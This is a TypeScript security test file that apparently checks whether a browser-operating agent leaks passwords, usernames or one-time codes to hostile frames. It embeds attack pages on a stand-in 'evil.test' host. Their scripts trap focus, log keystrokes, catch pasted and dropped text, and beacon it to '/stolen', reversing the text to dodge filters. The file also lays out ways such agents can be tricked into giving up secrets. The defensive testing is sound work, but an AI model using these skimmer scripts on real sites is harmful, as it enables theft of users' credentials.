import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type AttackSites, type Hand, startAttackSites } from './secret-attacks.test-helpers.ts';

const password = 'canary-word-of-the-shop';
const username = 'canary-name-4711';
const code = '482913';
const own = 'www.shop.test';
/** Another host of the same site, whose frames live in the process of the page. */
const sibling = 'ads.shop.test';
const evil = 'evil.test';

let sites: AttackSites;
/** Hosts of credentials. */
const hosts = (): readonly string[] => [sites.origin(own)];

/** Sends a text on, reversed: a request with the value as it is would be refused for that alone. */
const send = `const send = (path, text) => navigator.sendBeacon(path, [...text].reverse().join(''));`;
const reversed = (text: string): string => [...text].reverse().join('');
/** Takes the focus again and again, at once when it loses it, and says that it lives. */
const trap = `<input id="trap" aria-label="Trap"><script>${send}
  const trap = document.querySelector('#trap');
  trap.oninput = () => send('/stolen', trap.value);
  trap.onkeydown = (event) => send('/stolen', event.key);
  for (const name of ['blur', 'focusout']) trap.addEventListener(name, () => trap.focus());
  onblur = () => trap.focus();
  setInterval(() => trap.focus(), 3);
  setInterval(() => navigator.sendBeacon('/alive'), 50);
</script>`;
const reporting = `<script>${send}
  const field = document.querySelector('input');
  field.oninput = () => navigator.sendBeacon('/reported', field.value);
</script>`;
const signIn = `<input type="password" aria-label="Password">${reporting}`;
/** Sends on what is pasted or dropped into it. */
const taking = `<textarea aria-label="Take" style="width:280px;height:120px"></textarea><script>${send}
  const area = document.querySelector('textarea');
  area.oninput = () => { if (area.value) send('/stolen', area.value); };
  ondrop = (event) => send('/stolen', event.dataTransfer.getData('text/plain'));
  setInterval(() => navigator.sendBeacon('/alive'), 50);
</script>`;
/** Text that is selected in it stands below its middle. */
const visible = `<input aria-label="Member" style="font:16px monospace;width:150px">${reporting}`;
const keeping = `${visible}<textarea aria-label="Keep"></textarea><script>
  document.querySelector('textarea').oninput = ({ target }) => send('/kept', target.value);
</script><br>`;
const box = (digit: number): string => `<input maxlength="1" size="1" aria-label="Digit ${digit}">`;
const boxReports = `<script>${send}
  for (const one of document.querySelectorAll('input')) one.oninput = () => send('/digit', one.value);
</script>`;
const framed = (address: string): string =>
  `<iframe src="${address}" style="width:300px;height:160px"></iframe>`;

beforeAll(async () => {
  sites = await startAttackSites((origin) => {
    const pages: Readonly<Record<string, string>> = {
      '/trap': trap,
      '/sign-in': signIn,
      '/with-sibling': `${signIn}${framed(`${origin(sibling)}/trap`)}`,
      '/with-many': `${signIn}${[sibling, evil, sibling].map((host) => framed(`${origin(host)}/trap`)).join('')}`,
      // The frame leaves as soon as the focus goes into it, and the page around it wants the focus too.
      '/around': `${framed(`${origin(own)}/sign-in`)}${trap}<script>
        addEventListener('blur', () => { frames[0].location = '${origin(evil)}/trap'; });
      </script>`,
      '/own-boxes': `<form>${[1, 2, 3, 4, 5, 6].map(box).join('')}</form>${boxReports}`,
      '/mixed-boxes': `<form>${[1, 2, 3, 4, 5].map(box).join('')}</form>${boxReports}${framed(`${origin(evil)}/last-box`)}`,
      '/last-box': `${box(6)}${boxReports}`,
      '/visible': visible,
      ...Object.fromEntries(
        [sibling, evil].map((host) => [`/beside-${host}`, `${keeping}${framed(`${origin(host)}/taking`)}`]),
      ),
      '/taking': taking,
    };
    return (path) => pages[path] ?? null;
  });
});
afterAll(() => sites?.[Symbol.asyncDispose]());

const bodies = (path: string): readonly string[] =>
  sites.received.filter(({ url }) => url === path).map(({ body }) => body);
/** A trap that still runs has sent before what it has got. */
async function untilTrapsRan(): Promise<void> {
  const before = bodies('/alive').length;
  await expect.poll(() => bodies('/alive').length).toBeGreaterThan(before + 6);
}
/** Id of an element that the page must have, so that what is done to it is done. */
function find(hand: Hand, name: string): string {
  const id = hand.id(name);
  expect(id, name).not.toBe('');
  return id;
}
const type = (hand: Hand, name: string, text: string) =>
  hand.act({ action_type: 'input_text', id: find(hand, name), text });
const press = (hand: Hand, ...keys: readonly string[]) =>
  hand.act({ action_type: 'keypress', keys: [...keys] });

describe('secrets while they are typed', { tags: ['security', 'extended'] }, () => {
  it.each(['/with-sibling', '/with-many'])(
    'a frame in the process of the page that takes the focus back at once cannot get a password: %s',
    async (path) => {
      const result = await sites.attack({ username, password, hosts: hosts() }, async (hand) => {
        await hand.open(sites.origin(own) + path);
        await untilTrapsRan();
        const typed = await type(hand, 'Password', hand.password);
        await untilTrapsRan();
        return typed;
      });
      expect(result).toMatchObject({ status: 'ok', readBack: { holds: true } });
      await expect.poll(() => bodies('/reported')).toContain(password);
      expect(bodies('/stolen').join('')).toBe('');
    },
  );

  it('a page of another site around the sign-in, which sends its frame away, cannot get a password', async () => {
    const status = await sites.attack({ username, password, hosts: hosts() }, async (hand) => {
      await hand.open(`${sites.origin(evil)}/around`);
      await untilTrapsRan();
      const typed = await type(hand, 'Password', hand.password);
      await untilTrapsRan();
      return typed.status;
    });
    expect(bodies('/stolen').join('')).toBe('');
    if (status === 'ok') await expect.poll(() => bodies('/reported')).toEqual([password]);
    else expect(bodies('/reported')).toEqual([]);
  });

  it.each([
    ['/own-boxes', 'ok'],
    ['/mixed-boxes', 'failed'],
  ])(
    'a code whose boxes are named one by one cannot go to a frame of another site: %s',
    async (path, status) => {
      const result = await sites.attack({ username: code, password, hosts: hosts() }, async (hand) => {
        await hand.open(sites.origin(own) + path);
        const ids = [1, 2, 3, 4, 5, 6].map((digit) => find(hand, `Digit ${digit}`));
        return hand.act({ action_type: 'verification_code', ids, code: hand.username });
      });
      expect(result.status).toBe(status);
      const digits = status === 'ok' ? [...code].sort() : [];
      await expect.poll(() => [...bodies('/digit')].sort()).toEqual(digits);
      expect(sites.sentTo(evil).filter((text) => text.includes('/digit'))).toEqual([]);
    },
  );

  it.each(['Control+c', 'Control+KeyC', 'ControlLeft+c', 'ControlRight+KeyX', 'ShiftLeft+Delete'])(
    'keys cannot copy what was typed as a secret and paste it on another site: %s',
    async (chord) => {
      await sites.attack({ username, password, hosts: hosts() }, async (hand) => {
        await hand.open(`${sites.origin(own)}/visible`);
        await type(hand, 'Member', 'a plain text');
        // Copied before any secret, so that there is something to paste.
        await press(hand, 'Control+a', 'Control+c');
        await type(hand, 'Member', hand.username);
        await expect.poll(() => bodies('/reported')).toContain(username);
        await press(hand, 'Control+a', chord);
        await hand.open(`${sites.origin(evil)}/taking`);
        await hand.act({ action_type: 'click', id: find(hand, 'Take') });
        await press(hand, 'Control+v');
        await expect.poll(() => bodies('/stolen').length).toBeGreaterThan(0);
      });
      expect(bodies('/stolen')).toEqual([reversed('a plain text')]);
    },
  );

  it.each([sibling, evil])(
    'what was typed as a secret cannot be dragged into a frame of %s',
    async (host) => {
      const drag = async (hand: Hand, to: string): Promise<void> => {
        await press(hand, 'Control+a');
        await hand.act({ action_type: 'drag', from: find(hand, 'Member'), to: find(hand, to) });
      };
      await sites.attack({ username, password, hosts: hosts() }, async (hand) => {
        await hand.open(`${sites.origin(own)}/beside-${host}`);
        await type(hand, 'Member', 'plain-plain-plain');
        // The page itself takes what is dropped.
        await drag(hand, 'Keep');
        await expect.poll(() => bodies('/kept').join()).toContain(reversed('plain-plain-plain'));
        await type(hand, 'Member', hand.username);
        await expect.poll(() => bodies('/reported')).toContain(username);
        await drag(hand, 'Take');
        await untilTrapsRan();
      });
      expect(bodies('/stolen').join()).not.toContain(reversed(username));
    },
  );
});
